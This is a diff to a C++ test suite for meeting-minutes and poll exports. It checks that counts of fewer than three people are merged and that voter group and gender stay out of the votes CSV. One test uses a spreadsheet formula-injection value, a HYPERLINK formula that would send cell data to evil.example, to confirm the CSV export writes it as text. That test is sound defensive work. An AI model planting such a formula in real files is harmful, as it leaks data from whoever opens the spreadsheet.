@@ -67,7 +67,7 @@ MinutesData meeting() {
   poll.ballots = 3;
   poll.eligible = 3;
   poll.totals = {{"agree", "2"}, {"agree with reservations", "1"}, {"disagree", "0"}, {"abstain", "0"}};
-  poll.breakdown = {"Other (groups of fewer than 3 merged): agree 2, agree with reservations 1"};
+  poll.breakdown = {"Group groups under 3 voters (3): agree 2, agree with reservations 1"};
   // Anonymous: the words without a name (issue 18).
   poll.reservations = {"The 2019 survey is <out of date>."};
   d.polls = {poll};
@@ -79,8 +79,9 @@ TEST(MinutesTest, MarkdownMinutesMatchTheGoldenFile) {
   std::string md = render_minutes_markdown(meeting());
   expect_golden("minutes.md", md);
   // Elena joined twice: one person in the counts.
-  EXPECT_NE(md.find("3 people. By stakeholder group: Government 1; Academia 1; Civil society 1. By gender: not "
-                    "given 1; woman 2."),
+  // One person in each group, and genders of 1 and 2: no count under 3 is
+  // shown (issue 18); the groups under 3 are summed, and shown as such.
+  EXPECT_NE(md.find("3 people. By stakeholder group: groups under 3 people 3. By gender: groups under 3 people 3."),
             std::string::npos)
       << md;
 }
@@ -92,6 +93,28 @@ TEST(MinutesTest, HtmlMinutesMatchTheGoldenFileAndEscape) {
   EXPECT_NE(html.find("+The law protects speech &lt;online&gt;."), std::string::npos);
   EXPECT_NE(html.find("<p>Reservations:</p>\n<ul>\n<li>The 2019 survey is &lt;out of date&gt;.</li>"), std::string::npos)
       << html;
+}
+
+TEST(MinutesTest, AttendanceCountsShowOnlyCellsOfAtLeastThreePeople) {
+  MinutesData d = meeting();
+  d.attendance.clear();
+  auto add = [&](const std::string& name, v1::StakeholderGroup g, const std::string& gender) {
+    d.attendance.push_back({name, v1::ROLE_MEMBER, g, gender, kNine, std::nullopt});
+  };
+  for (int i = 0; i < 4; ++i) add("gov" + std::to_string(i), v1::STAKEHOLDER_GROUP_GOVERNMENT, "woman");
+  for (int i = 0; i < 3; ++i) add("acad" + std::to_string(i), v1::STAKEHOLDER_GROUP_ACADEMIA, "man");
+  add("media0", v1::STAKEHOLDER_GROUP_MEDIA, "man");
+  add("media1", v1::STAKEHOLDER_GROUP_MEDIA, "nonbinary");
+  add("users0", v1::STAKEHOLDER_GROUP_USERS, "woman");
+  const std::string md = render_minutes_markdown(d);
+  EXPECT_NE(md.find("10 people. By stakeholder group: Government 4; Academia 3; groups under 3 people 3. By gender: "),
+            std::string::npos)
+      << md;
+  // Genders: woman 5, man 4, nonbinary 1 — the 1 alone would name someone, so
+  // the smallest shown count joins it.
+  EXPECT_NE(md.find("By gender: woman 5; groups under 3 people 5."), std::string::npos) << md;
+  EXPECT_EQ(md.find("nonbinary"), std::string::npos) << md;
+  EXPECT_EQ(md.find("Media"), std::string::npos) << "no one's group beside their name:\n" << md;
 }
 
 TEST(VotesCsvTest, AnonymousBallotsCarryNoVoterGroupGenderOrTimeAndAreSortedByChoice) {
@@ -109,9 +132,9 @@ TEST(VotesCsvTest, AnonymousBallotsCarryNoVoterGroupGenderOrTimeAndAreSortedByCh
   for (const char* identity : {"Elena", "Aigerim", "Civil society", "Government", "woman"}) {
     EXPECT_EQ(csv.find(identity), std::string::npos) << identity << " leaked:\n" << csv;
   }
-  EXPECT_NE(csv.find("poll-2,\"Rank, the \"\"priorities\"\"\",ranking,no,Nurlan,Academia,,2026-01-01 09:00:00 UTC,b > a"),
-            std::string::npos)
-      << csv;
+  // A named ballot: the voter and the choice, never their group or gender.
+  EXPECT_NE(csv.find("poll-2,\"Rank, the \"\"priorities\"\"\",ranking,no,Nurlan,"), std::string::npos) << csv;
+  EXPECT_EQ(csv.find("Academia"), std::string::npos) << csv;
   EXPECT_LT(csv.find(",agree\n"), csv.find(",agree with reservations\n"));
   EXPECT_LT(csv.find(",agree with reservations\n"), csv.find(",disagree\n"));
 }
@@ -126,7 +149,7 @@ engine::Poll validation_poll(bool anonymous) {
   def.threshold = {2, 3};
   engine::Poll poll;
   EXPECT_TRUE(poll.create(def, kNine).ok());
-  // Government 4, academia 3, media 1: media joins "other", which then has
+  // Government 4, academia 3, media 1: media joins the merged groups, which then have
   // one voter, so the smallest shown group (academia) joins it too
   // (engine/README.md, "Polls").
   const char* groups[] = {"government", "government", "government", "media",
@@ -157,7 +180,7 @@ TEST(PollExportTest, MinutesShowTotalsOutcomeAndBreakdownsWithSmallGroupsMerged)
   std::string all;
   for (const auto& b : m.breakdown) all += b + "\n";
   EXPECT_NE(all.find("Group government (4): agree 3, agree with reservations 1"), std::string::npos) << all;
-  EXPECT_NE(all.find("Group other (4): agree 2, disagree 1, abstain 1"), std::string::npos) << all;
+  EXPECT_NE(all.find("Group groups under 3 voters (4): agree 2, disagree 1, abstain 1"), std::string::npos) << all;
   EXPECT_EQ(all.find("media"), std::string::npos) << "a group of one is merged:\n" << all;
   EXPECT_EQ(all.find("academia"), std::string::npos) << all;
   for (int i = 0; i < 8; ++i) EXPECT_EQ(all.find("voter-" + std::to_string(i)), std::string::npos);
@@ -203,9 +226,10 @@ TEST(PollExportTest, AnonymousVoteRowsHoldOnlyChoicesAndNamedRowsNameTheVoterInC
   EXPECT_EQ(named_rows[7].voter, "Name of voter-0");
 }
 
-// issue 17: a voter's name or self-described gender is theirs to choose, and
-// the chair opens votes.csv in a spreadsheet: a formula stays text.
-TEST(VotesCsvTest, ANameOrGenderThatIsAFormulaIsWrittenAsText) {
+// issue 17: a voter's name is theirs to choose, and the chair opens
+// votes.csv in a spreadsheet: a formula stays text. (Their gender, also
+// theirs to write, is no longer in the file at all: issue 18.)
+TEST(VotesCsvTest, ANameThatIsAFormulaIsWrittenAsTextAndAGenderIsNotWritten) {
   const std::string formula = "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click me\")";
   auto name_of = [&](const std::string&) { return formula; };
   engine::Poll named = validation_poll(false);
@@ -218,7 +242,7 @@ TEST(VotesCsvTest, ANameOrGenderThatIsAFormulaIsWrittenAsText) {
     EXPECT_EQ(csv.find(lead), std::string::npos) << lead << " in\n" << csv;
   }
   EXPECT_NE(csv.find(",\"'=HYPERLINK(\"\"https://evil.example"), std::string::npos) << csv;
-  EXPECT_NE(csv.find(",\"'@SUM(1+1)\""), std::string::npos) << csv;
+  EXPECT_EQ(csv.find("SUM(1+1)"), std::string::npos) << csv;
 }
 
 }  // namespace
